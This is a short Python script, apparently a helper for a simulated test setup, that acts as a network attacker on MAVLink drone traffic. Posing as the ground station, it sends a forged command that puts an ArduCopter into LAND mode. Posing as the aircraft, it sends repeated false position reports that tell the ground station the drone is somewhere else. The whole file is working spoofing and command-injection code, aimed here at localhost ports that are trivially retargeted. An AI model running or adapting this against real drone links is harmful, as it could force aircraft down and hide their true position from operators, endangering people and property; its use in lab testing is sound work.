"""An attacker on the network: `mavlink_intruder.py AIRCRAFT STATION LAT LON`, the UDP ports that it has found.

It orders the aircraft to land, as if it were the ground station, and tells the ground station that the aircraft is
elsewhere. Prints the port that it sends from.
"""

import socket
import sys
import time

from pymavlink.dialects.v20 import ardupilotmega as mav

LAND = 9
"""The number of ArduCopter's mode."""


def main(aircraft: int, station: int, lat: float, lon: float) -> None:
    as_station, as_aircraft = mav.MAVLink(None, 255, 190), mav.MAVLink(None, 1, 1)
    order = mav.MAVLink_command_long_message(1, 1, mav.MAV_CMD_DO_SET_MODE, 0, 1, LAND, 0, 0, 0, 0, 0)
    place = round(lat * 1e7), round(lon * 1e7)
    lie = mav.MAVLink_global_position_int_message(1000, *place, 700_000, 90_000, 0, 0, 0, 0)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.bind(("127.0.0.1", 0))
        print(line.getsockname()[1], flush=True)
        line.sendto(order.pack(as_station), ("127.0.0.1", aircraft))
        for _ in range(5):
            line.sendto(lie.pack(as_aircraft), ("127.0.0.1", station))
            time.sleep(0.1)


if __name__ == "__main__":
    main(int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4]))
